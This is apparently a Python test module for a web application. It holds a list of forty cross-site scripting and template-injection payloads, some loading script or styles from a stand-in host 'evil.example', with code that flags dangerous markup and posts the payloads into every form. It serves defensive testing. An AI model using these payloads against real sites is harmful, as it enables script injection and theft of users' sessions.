"""Forty ways in which a text tries to become a program, where a person may type them, and what a
page must not hold for it."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urljoin

from werkzeug.test import TestResponse

from tests.desk import Desk

#: each would call `alert`, or load or send something, where a page took it for markup
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert`1`>",
    "<IMG SRC=x OnErRoR=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>clic</a>",
    "<a href='java\tscript:alert(1)'>clic</a>",
    "<form action=javascript:alert(1)><button>Enviar</button></form>",
    "<button formaction=javascript:alert(1)>Enviar</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    "` onmouseover=alert(1) x=`",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*'7'}}${7*7}<%= 7*7 %>#{7*7}",
    "\ufeff\u202e<script\x0b>alert(1)</script\x0b>",
)
assert len(PAYLOADS) == 40
assert len(set(PAYLOADS)) == 40

#: all of them in one text, for fields that take a long one
ALL = "\n".join(PAYLOADS)
#: and ten at a time, for the others
LOTS = tuple("\n".join(PAYLOADS[n : n + 10]) for n in range(0, len(PAYLOADS), 10))

#: what signs the official out or takes the account away would end the walk
LEAVING = ("/salir", "/sesiones", "/desactivar", "/retirar", "/clave")
TYPED_INTO = frozenset({"text", "search", "email", "tel", "url", "number", "date", "time", ""})

_OURS = re.compile(r"/static/(js|vendor|css)/[a-z.]+")
_FORBIDDEN = {"iframe", "object", "embed", "base", "style", "marquee", "math", "animate", "video"}
_LEADS = ("href", "src", "action", "formaction", "data", "srcdoc")


def dangers(page: str) -> list[str]:
    """What a browser would run or load of a page that is not ours; nothing is well."""
    reader = _Reader()
    reader.feed(page)
    said = ["a template was evaluated"] if "7777777" in page else []
    return reader.found + said


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in _FORBIDDEN or (tag == "meta" and "http-equiv" in given):
            self.found.append(f"<{tag}>")
        loads = given.get("src") or given.get("href", "")
        if tag in ("script", "link") and given.get("rel") != "icon" and not _OURS.match(loads):
            self.found.append(f"<{tag}> that is not ours: {given}")
        self.found += [f"{tag} {name}" for name in given if name.startswith("on")]
        self.found += [f"{tag} {name}={given[name]}" for name in _LEADS if _runs(given.get(name))]

    handle_startendtag = handle_starttag


def _runs(address: str | None) -> bool:
    plain = re.sub(r"[\s\x00-\x20]", "", address or "").lower()
    return plain.startswith(("javascript:", "data:text", "vbscript:", "//"))


# --- where they are typed -------------------------------------------------------------------------


@dataclass(frozen=True)
class Form:
    """A form of a page: where it goes, what it carries, and where a person types."""

    action: str
    carried: tuple[tuple[str, str], ...]
    typed: tuple[str, ...]


@dataclass
class _Open:
    action: str
    carried: list[tuple[str, str]] = field(default_factory=list)
    typed: list[str] = field(default_factory=list)


class _Forms(HTMLParser):
    def __init__(self, address: str) -> None:
        super().__init__(convert_charrefs=True)
        self.address = address
        self.found: list[Form] = []
        self._open: _Open | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = {name: value or "" for name, value in attrs}
        if tag == "form" and said.get("method", "").lower() == "post":
            action = urljoin(self.address, said.get("action") or self.address)
            self._open = _Open(action)
        if self._open is None or not said.get("name"):
            return
        if tag == "textarea" or (tag == "input" and said.get("type", "") in TYPED_INTO):
            self._open.typed.append(said["name"])
        elif tag in ("input", "button"):
            self._open.carried.append((said["name"], said.get("value", "on")))

    def handle_endtag(self, tag: str) -> None:
        if tag == "form" and self._open is not None:
            done = self._open
            form = Form(done.action, tuple(done.carried), tuple(done.typed))
            self._open = None
            if form.typed and not any(part in form.action for part in LEAVING):
                self.found.append(form)


def forms_of(desk: Desk, paths: list[str]) -> Iterator[Form]:
    """Each form once, wherever it stands."""
    seen = set()
    for path in paths:
        answer = desk.client.get(path)
        if answer.status_code != 200 or "html" not in answer.content_type:
            answer.close()
            continue
        reader = _Forms(path)
        reader.feed(answer.text)
        for form in reader.found:
            if (form.action, form.typed) not in seen:
                seen.add((form.action, form.typed))
                yield form


def attacks(
    desk: Desk, forms: Iterable[Form], lots: Iterable[str] = LOTS
) -> Iterator[tuple[str, TestResponse]]:
    """What each form answers to every lot in all of its fields at once."""
    for form in forms:
        for lot in lots:
            typed = {**dict(form.carried), **dict.fromkeys(form.typed, lot)}
            answer = desk.client.post(form.action, data=typed)
            yield form.action, answer
            answer.close()
